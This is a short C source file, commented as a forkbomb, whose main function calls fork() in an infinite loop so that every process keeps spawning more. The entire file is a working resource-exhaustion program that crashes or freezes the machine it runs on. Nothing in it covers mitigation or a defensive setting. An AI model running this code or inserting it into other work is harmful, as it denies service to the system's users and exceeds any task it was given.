/* forkbomb: every process forks forever; failed forks are retried. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
